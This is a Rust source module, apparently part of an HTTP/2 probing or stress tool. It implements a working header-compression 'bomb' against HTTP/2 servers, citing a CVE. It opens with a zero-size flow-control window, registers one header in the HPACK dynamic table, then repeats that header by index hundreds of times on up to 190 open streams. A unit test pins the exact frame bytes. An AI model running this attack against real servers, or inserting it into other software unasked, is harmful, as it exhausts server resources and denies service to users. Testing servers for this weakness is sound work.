//! A header bomb (CVE-2026-49975 and its like): one small header added to the dynamic table
//! and then repeated by its index, a byte each, on as many streams as the server allows,
//! with no window to answer into and no end of the body. Then silence.

use super::frames::{self, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE};
use super::talk::{Ears, talk};
use super::wire::{Gone, Wire};

/// Times that a request has the header.
const REPEATED: usize = 300;
/// Streams where the server allows more.
const STREAMS: u32 = 190;
/// `a: b`, added to the dynamic table, where it is the first entry after the static ones.
const ADDED: &[u8] = b"\x40\x01a\x01b";
const INDEXED: u8 = 0x80 | 62;

pub async fn live(mut wire: Wire) -> Gone {
    let mut opening = frames::PREFACE.to_vec();
    frames::settings(&mut opening, &[(INITIAL_WINDOW_SIZE, 0)]);
    if let Err(gone) = wire.send(&opening).await {
        return gone;
    }
    let block = frames::post(wire.ground.path, &wire.ground.host);
    talk(wire, Ears::Frames, move |allowed, out| {
        (0..allowed.min(STREAMS)).for_each(|number| write(number, &block, out));
        None
    })
    .await
}

fn write(number: u32, block: &[u8], out: &mut Vec<u8>) {
    let mut block = block.to_vec();
    let repeated = if number == 0 { REPEATED - 1 } else { REPEATED };
    if number == 0 {
        block.extend_from_slice(ADDED);
    }
    block.resize(block.len() + repeated, INDEXED);
    frames::write(out, HEADERS, END_HEADERS, number * 2 + 1, &block);
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_header_is_told_once_and_repeated_by_its_index() {
        let mut out = Vec::new();
        super::write(0, b"\x83", &mut out);
        assert_eq!(out[..15], *b"\0\x01\x31\x01\x04\0\0\0\x01\x83\x40\x01a\x01b");
        assert!(out[15..].iter().all(|byte| *byte == 0xbe));
        assert_eq!(out.len(), 9 + 1 + 5 + 299);
        out.clear();
        super::write(1, b"\x83", &mut out);
        assert_eq!(out[..11], *b"\0\x01\x2d\x01\x04\0\0\0\x03\x83\xbe");
        assert_eq!(out.len(), 9 + 1 + 300);
    }
}
